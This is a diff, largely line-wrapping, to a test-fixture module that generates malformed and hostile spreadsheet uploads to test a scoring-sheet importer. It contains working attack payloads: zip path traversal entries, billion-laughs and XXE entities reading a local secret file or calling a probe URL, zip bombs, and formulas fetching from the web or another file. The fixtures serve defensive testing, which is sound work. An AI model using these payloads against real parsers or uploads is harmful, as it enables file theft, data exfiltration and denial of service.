@@ -60,7 +60,6 @@ function firstInputs(lot: Lot) {
   return { score: score!.score, reason: score!.reason, verdict: verdict!.verdict, verdictReason: verdict!.reason };
 }
 
-
 const scoring = (wb: ExcelJS.Workbook) => wb.getWorksheet(SHEETS.scoring)!;
 const meta = (wb: ExcelJS.Workbook) => wb.getWorksheet(SHEETS.meta)!;
 const unprotect = (sheet: ExcelJS.Worksheet) => (sheet as unknown as { unprotect(): void }).unprotect();
@@ -105,9 +104,12 @@ export const RECIPES: Record<string, Recipe> = {
   unknownCompression: async ({ good }) => rawZip((await rawEntriesOf(good)).map((e, i) => (i === 0 ? { ...e, method: 12 as 0 } : e))),
 
   // Hostile part names and duplicate parts, from the real export.
-  entryEscapesUpwards: async ({ good, escapeName }) => rawZip([...(await rawEntriesOf(good)), deflated(`../../${escapeName}`, Buffer.from('written outside'))]),
-  entryWithAbsolutePath: async ({ good, escapeName }) => rawZip([...(await rawEntriesOf(good)), deflated(`/tmp/${escapeName}`, Buffer.from('written outside'))]),
-  entryWithBackslashes: async ({ good, escapeName }) => rawZip([...(await rawEntriesOf(good)), deflated(`..\\..\\${escapeName}`, Buffer.from('written outside'))]),
+  entryEscapesUpwards: async ({ good, escapeName }) =>
+    rawZip([...(await rawEntriesOf(good)), deflated(`../../${escapeName}`, Buffer.from('written outside'))]),
+  entryWithAbsolutePath: async ({ good, escapeName }) =>
+    rawZip([...(await rawEntriesOf(good)), deflated(`/tmp/${escapeName}`, Buffer.from('written outside'))]),
+  entryWithBackslashes: async ({ good, escapeName }) =>
+    rawZip([...(await rawEntriesOf(good)), deflated(`..\\..\\${escapeName}`, Buffer.from('written outside'))]),
   sheetTwice: async ({ good, lot }) => {
     const shadow = setCell(await partText(good, SCORING_PART), firstInputs(lot).score, 0);
     return rawZip([...(await rawEntriesOf(good)), deflated(SCORING_PART, Buffer.from(shadow))]);
@@ -119,27 +121,38 @@ export const RECIPES: Record<string, Recipe> = {
 
   // XML that attacks the parser, from the real export.
   billionLaughs: ({ good }) =>
-    editPart(
-      good,
-      'xl/sharedStrings.xml',
-      (xml) =>
-        DOCTYPE_SST(
-          ['<!ENTITY lol "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`)].join(''),
-        )(xml).replace('<si><t>', '<si><t>&lol9;'),
+    editPart(good, 'xl/sharedStrings.xml', (xml) =>
+      DOCTYPE_SST(
+        ['<!ENTITY lol "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`)].join(''),
+      )(xml).replace('<si><t>', '<si><t>&lol9;'),
     ),
   externalEntityFile: ({ good, secretPath }) =>
-    editPart(good, 'xl/sharedStrings.xml', (xml) => DOCTYPE_SST(`<!ENTITY secret SYSTEM "file://${secretPath}">`)(xml).replace('<si><t>', '<si><t>&secret;')),
+    editPart(good, 'xl/sharedStrings.xml', (xml) =>
+      DOCTYPE_SST(`<!ENTITY secret SYSTEM "file://${secretPath}">`)(xml).replace('<si><t>', '<si><t>&secret;'),
+    ),
   externalEntityWeb: ({ good, probeUrl }) =>
-    editPart(good, 'xl/sharedStrings.xml', (xml) => DOCTYPE_SST(`<!ENTITY web SYSTEM "${probeUrl}/entity">`)(xml).replace('<si><t>', '<si><t>&web;')),
+    editPart(good, 'xl/sharedStrings.xml', (xml) =>
+      DOCTYPE_SST(`<!ENTITY web SYSTEM "${probeUrl}/entity">`)(xml).replace('<si><t>', '<si><t>&web;'),
+    ),
   externalDtd: ({ good, probeUrl }) =>
-    editPart(good, 'xl/workbook.xml', (xml) => xml.replace('<workbook ', `<!DOCTYPE workbook SYSTEM "${probeUrl}/workbook.dtd"><workbook `)),
+    editPart(good, 'xl/workbook.xml', (xml) =>
+      xml.replace('<workbook ', `<!DOCTYPE workbook SYSTEM "${probeUrl}/workbook.dtd"><workbook `),
+    ),
   parameterEntity: ({ good, probeUrl }) =>
-    editPart(good, 'xl/styles.xml', (xml) => xml.replace('<styleSheet ', `<!DOCTYPE styleSheet [<!ENTITY % remote SYSTEM "${probeUrl}/param.dtd"> %remote;]><styleSheet `)),
+    editPart(good, 'xl/styles.xml', (xml) =>
+      xml.replace('<styleSheet ', `<!DOCTYPE styleSheet [<!ENTITY % remote SYSTEM "${probeUrl}/param.dtd"> %remote;]><styleSheet `),
+    ),
   deeplyNested: ({ good }) => {
     const rng = createRng(8);
     const names = Array.from({ length: 100_000 }, () => `x${Math.floor(rng.next() * 0xffffffff).toString(36)}`);
     return editPart(good, SCORING_PART, (xml) =>
-      xml.replace('</sheetData>', `</sheetData><extLst>${names.map((n) => `<${n}>`).join('')}${[...names].reverse().map((n) => `</${n}>`).join('')}</extLst>`),
+      xml.replace(
+        '</sheetData>',
+        `</sheetData><extLst>${names.map((n) => `<${n}>`).join('')}${[...names]
+          .reverse()
+          .map((n) => `</${n}>`)
+          .join('')}</extLst>`,
+      ),
     );
   },
   sharedStringsInUtf16: async ({ good }) => {
@@ -153,17 +166,32 @@ export const RECIPES: Record<string, Recipe> = {
   declaresLatin1: ({ good }) => editPart(good, 'xl/workbook.xml', (xml) => xml.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"')),
 
   // Ranges and sizes that would make the spreadsheet library loop for hours, from the real export.
-  columnsPastLastColumn: ({ good }) => editPart(good, SCORING_PART, (xml) => xml.replace('<cols>', '<cols><col min="20" max="2000000000" width="9" customWidth="1"/>')),
-  mergedWholeSheet: ({ good }) => editPart(good, SCORING_PART, (xml) => xml.replace('<mergeCells count="9">', '<mergeCells count="10"><mergeCell ref="A100:XFD1048576"/>')),
+  columnsPastLastColumn: ({ good }) =>
+    editPart(good, SCORING_PART, (xml) => xml.replace('<cols>', '<cols><col min="20" max="2000000000" width="9" customWidth="1"/>')),
+  mergedWholeSheet: ({ good }) =>
+    editPart(good, SCORING_PART, (xml) =>
+      xml.replace('<mergeCells count="9">', '<mergeCells count="10"><mergeCell ref="A100:XFD1048576"/>'),
+    ),
   validationWholeSheet: ({ good }) =>
-    editPart(good, SCORING_PART, (xml) => xml.replace(/<dataValidations count="(\d+)">/, (_, n: string) => `<dataValidations count="${Number(n) + 1}"><dataValidation type="whole" allowBlank="1" sqref="A1:XFD1048576"><formula1>0</formula1><formula2>5</formula2></dataValidation>`)),
+    editPart(good, SCORING_PART, (xml) =>
+      xml.replace(
+        /<dataValidations count="(\d+)">/,
+        (_, n: string) =>
+          `<dataValidations count="${Number(n) + 1}"><dataValidation type="whole" allowBlank="1" sqref="A1:XFD1048576"><formula1>0</formula1><formula2>5</formula2></dataValidation>`,
+      ),
+    ),
   namedWholeSheet: ({ good }) =>
-    editPart(good, 'xl/workbook.xml', (xml) => xml.replace('<definedNames>', '<definedNames><definedName name="Everything">Scoring!$A$1:$XFD$1048576</definedName>')),
+    editPart(good, 'xl/workbook.xml', (xml) =>
+      xml.replace('<definedNames>', '<definedNames><definedName name="Everything">Scoring!$A$1:$XFD$1048576</definedName>'),
+    ),
 
   // Large files, made here so the repository stays small.
   overSizeLimit: async ({ good }) => {
     const photo = noise(10, 10 * MiB);
-    return rawZip([...(await rawEntriesOf(good)), { name: 'xl/media/image1.png', packed: photo, method: 0, crc: crc32(photo), uncompressedSize: photo.length }]);
+    return rawZip([
+      ...(await rawEntriesOf(good)),
+      { name: 'xl/media/image1.png', packed: photo, method: 0, crc: crc32(photo), uncompressedSize: photo.length },
+    ]);
   },
   overTransferLimit: () => Buffer.alloc(61 * MiB),
   bombOneEntry: () => {
@@ -184,16 +212,26 @@ export const RECIPES: Record<string, Recipe> = {
   },
   bombHighRatio: async ({ good }) => {
     const strings = Buffer.from(`<?xml version="1.0" encoding="UTF-8"?><sst>${'<si><t>Good</t></si>'.repeat(1_000_000)}</sst>`);
-    return rawZip([...(await rawEntriesOf(good)).filter((e) => e.name !== 'xl/sharedStrings.xml'), deflated('xl/sharedStrings.xml', strings)]);
+    return rawZip([
+      ...(await rawEntriesOf(good)).filter((e) => e.name !== 'xl/sharedStrings.xml'),
+      deflated('xl/sharedStrings.xml', strings),
+    ]);
   },
   bombOverlapping: async ({ good }) => {
     const real = await rawEntriesOf(good);
     const block = Buffer.alloc(MiB, 0x20);
     const shared = deflated('xl/media/image0.png', block);
-    return rawZip([...real, shared, ...Array.from({ length: 200 }, (_, i) => ({ ...shared, name: `xl/media/image${i + 1}.png`, sameDataAs: real.length }))]);
+    return rawZip([
+      ...real,
+      shared,
+      ...Array.from({ length: 200 }, (_, i) => ({ ...shared, name: `xl/media/image${i + 1}.png`, sameDataAs: real.length })),
+    ]);
   },
   manyEntries: async ({ good }) =>
-    rawZip([...(await rawEntriesOf(good)), ...Array.from({ length: 10_000 }, (_, i) => deflated(`customXml/item${i}.xml`, Buffer.from(`<x>${i}</x>`)))]),
+    rawZip([
+      ...(await rawEntriesOf(good)),
+      ...Array.from({ length: 10_000 }, (_, i) => deflated(`customXml/item${i}.xml`, Buffer.from(`<x>${i}</x>`))),
+    ]),
   millionsOfSharedStrings: ({ good }) =>
     editPart(good, 'xl/sharedStrings.xml', (xml) =>
       xml.replace('</sst>', `${Array.from({ length: 1_000_000 }, (_, i) => `<si><t>${(i * 7919).toString(36)}</t></si>`).join('')}</sst>`),
@@ -201,7 +239,10 @@ export const RECIPES: Record<string, Recipe> = {
   oneGiantSharedString: async ({ good }) => {
     // Stored, not deflated: 8 MB of text in a file under the 10 MB limit, with no time spent compressing it.
     const reason = 'Reason of ev-ao for Acme Ltd on 2.1 “Delivery plan”';
-    const xml = (await partText(good, 'xl/sharedStrings.xml')).replace(`<t>${reason}</t>`, `<t>${noise(12, 8 * MiB).toString('latin1')}</t>`);
+    const xml = (await partText(good, 'xl/sharedStrings.xml')).replace(
+      `<t>${reason}</t>`,
+      `<t>${noise(12, 8 * MiB).toString('latin1')}</t>`,
+    );
     const data = Buffer.from(xml);
     const stored: RawEntry = { name: 'xl/sharedStrings.xml', packed: data, method: 0, crc: crc32(data), uncompressedSize: data.length };
     return rawZip((await rawEntriesOf(good)).map((e) => (e.name === stored.name ? stored : e)));
@@ -220,13 +261,18 @@ export const RECIPES: Record<string, Recipe> = {
         for (let x = n; x > 0; x = Math.floor((x - 1) / 26)) s = String.fromCharCode(65 + ((x - 1) % 26)) + s;
         return s;
       };
-      const rows = [100, 101, 102, 103].map((r) => `<row r="${r}">${Array.from({ length: 16_384 }, (_, c) => `<c r="${column(c + 1)}${r}"><v>${c}</v></c>`).join('')}</row>`);
+      const rows = [100, 101, 102, 103].map(
+        (r) => `<row r="${r}">${Array.from({ length: 16_384 }, (_, c) => `<c r="${column(c + 1)}${r}"><v>${c}</v></c>`).join('')}</row>`,
+      );
       return xml.replace('</sheetData>', `${rows.join('')}</sheetData>`);
     }),
   floodOfElements: ({ good }) =>
     editPart(good, 'docProps/app.xml', (xml) => {
       const rng = createRng(3);
-      return xml.replace('</Properties>', `${Array.from({ length: 600_000 }, () => `<n v="${Math.floor(rng.next() * 1e9)}"/>`).join('')}</Properties>`);
+      return xml.replace(
+        '</Properties>',
+        `${Array.from({ length: 600_000 }, () => `<n v="${Math.floor(rng.next() * 1e9)}"/>`).join('')}</Properties>`,
+      );
     }),
 
   // Workbooks that do not belong here (real exports from elsewhere).
@@ -253,9 +299,11 @@ export const RECIPES: Record<string, Recipe> = {
       const sheet = scoring(wb);
       unprotect(sheet);
       const [a, b] = [layout.scoreInputs[0]!.row, layout.scoreInputs.find((i) => i.row !== layout.scoreInputs[0]!.row)!.row];
-      for (let column = 1; column <= layout.lastColumn; column += 1) swap(sheet, `${sheet.getColumn(column).letter}${a}`, `${sheet.getColumn(column).letter}${b}`);
+      for (let column = 1; column <= layout.lastColumn; column += 1)
+        swap(sheet, `${sheet.getColumn(column).letter}${a}`, `${sheet.getColumn(column).letter}${b}`);
     }),
-  rowInserted: ({ fill }) => fill((wb, layout) => void scoring(wb).spliceRows(layout.scoreInputs[0]!.row + 1, 0, ['X', 'My extra criterion'])),
+  rowInserted: ({ fill }) =>
+    fill((wb, layout) => void scoring(wb).spliceRows(layout.scoreInputs[0]!.row + 1, 0, ['X', 'My extra criterion'])),
   bidderColumnsSwapped: ({ fill }) =>
     fill((wb, layout) => {
       const sheet = scoring(wb);
@@ -276,7 +324,8 @@ export const RECIPES: Record<string, Recipe> = {
       const [address] = [...layout.formulas.keys()].filter((a) => a.startsWith('G'));
       scoring(wb).getCell(address!).value = 99;
     }),
-  mergedOverInputs: ({ good }) => editPart(good, SCORING_PART, (xml) => xml.replace('<mergeCells count="9">', '<mergeCells count="10"><mergeCell ref="G7:H7"/>')),
+  mergedOverInputs: ({ good }) =>
+    editPart(good, SCORING_PART, (xml) => xml.replace('<mergeCells count="9">', '<mergeCells count="10"><mergeCell ref="G7:H7"/>')),
 
   // Scores, reasons and verdicts that are not acceptable, from the real export.
   scoreAboveScale: ({ good, lot }) => editCells(good, { [firstInputs(lot).score]: 6 }),
@@ -286,8 +335,10 @@ export const RECIPES: Record<string, Recipe> = {
   scoreWithDecimalComma: ({ good, lot }) => editCells(good, { [firstInputs(lot).score]: '3,5' }),
   scoreTooLargeToRead: ({ good, lot }) => editCells(good, { [firstInputs(lot).score]: { type: 'n', v: '1E+999' } }),
   scoreAsFormula: ({ good, lot }) => editCells(good, { [firstInputs(lot).score]: { formula: 'MAX(0,4)', cached: 4 } }),
-  scoreFromTheWeb: ({ good, lot, probeUrl }) => editCells(good, { [firstInputs(lot).score]: { formula: `WEBSERVICE("${probeUrl}/score")`, cached: 4 } }),
-  scoreFromAnotherFile: ({ good, lot, secretPath }) => editCells(good, { [firstInputs(lot).score]: { formula: `'file://${secretPath}'!A1`, cached: 4 } }),
+  scoreFromTheWeb: ({ good, lot, probeUrl }) =>
+    editCells(good, { [firstInputs(lot).score]: { formula: `WEBSERVICE("${probeUrl}/score")`, cached: 4 } }),
+  scoreFromAnotherFile: ({ good, lot, secretPath }) =>
+    editCells(good, { [firstInputs(lot).score]: { formula: `'file://${secretPath}'!A1`, cached: 4 } }),
   scoreAsTrue: ({ good, lot }) => editCells(good, { [firstInputs(lot).score]: { type: 'b', v: '1' } }),
   scoreAsError: ({ good, lot }) => editCells(good, { [firstInputs(lot).score]: { type: 'e', v: '#N/A' } }),
   reasonMissing: ({ good, lot }) => editCells(good, { [firstInputs(lot).reason]: null }),
@@ -317,9 +368,15 @@ export async function justUnderTheCaps(good: Buffer, limits: ContentLimits): Pro
   const rng = createRng(90);
   let out = await editPart(good, SCORING_PART, (xml) => xml.replace('</sheetData>', `${notes}</sheetData>`));
   out = await editPart(out, 'xl/sharedStrings.xml', (xml) =>
-    xml.replace('</sst>', `${Array.from({ length: cells }, (_, i) => `<si><t>Note ${i}: ${(i * 7919).toString(36)}</t></si>`).join('')}</sst>`),
+    xml.replace(
+      '</sst>',
+      `${Array.from({ length: cells }, (_, i) => `<si><t>Note ${i}: ${(i * 7919).toString(36)}</t></si>`).join('')}</sst>`,
+    ),
   );
   return editPart(out, 'docProps/app.xml', (xml) =>
-    xml.replace('</Properties>', `${Array.from({ length: properties }, () => `<n v="${Math.floor(rng.next() * 1e9)}"/>`).join('')}</Properties>`),
+    xml.replace(
+      '</Properties>',
+      `${Array.from({ length: properties }, () => `<n v="${Math.floor(rng.next() * 1e9)}"/>`).join('')}</Properties>`,
+    ),
   );
 }
